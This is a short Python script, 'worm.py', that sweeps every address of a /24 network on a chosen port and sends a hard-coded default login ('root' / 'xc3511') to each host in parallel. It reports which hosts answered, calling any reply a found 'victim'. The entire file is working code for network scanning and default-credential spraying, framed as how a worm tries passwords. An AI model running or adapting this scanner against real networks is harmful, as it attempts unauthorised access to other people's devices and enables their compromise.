#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""worm.py - walks the addresses of a /24 once, as a worm does that tries passwords.

    worm.py PREFIX PORT AT_ONCE PATIENCE     PREFIX is that of the /24: 192.0.2.

It connects to the port of each address, AT_ONCE at a time, sends a login, and leaves an address
that says nothing after PATIENCE seconds. Prints a line for each address in the order of their ends:
ADDRESS RESULT SECONDS. RESULT is login (it has found a victim), held (connected, but no answer),
silent (not connected), refused or unreachable.
"""
import concurrent.futures
import socket
import sys
import time


def attack(address, port, patience):
    """What becomes of one address."""
    silence = "silent"
    try:
        with socket.create_connection((address, port), patience) as connection:
            silence = "held"
            connection.sendall(b"root\r\nxc3511\r\n")
            return "login" if connection.recv(100) else "refused"
    except TimeoutError:
        return silence
    except ConnectionError:
        return "refused"
    except OSError:
        return "unreachable"


def visit(address, port, patience):
    """Attacks an address, and prints the result."""
    began = time.monotonic()
    result = attack(address, port, patience)
    print(address, result, round(time.monotonic() - began), flush=True)


def main():
    """Walks the network."""
    prefix, port, at_once, patience = sys.argv[1:]
    with concurrent.futures.ThreadPoolExecutor(int(at_once)) as pool:
        for host in range(1, 255):
            pool.submit(visit, f"{prefix}{host}", int(port), int(patience))


main()
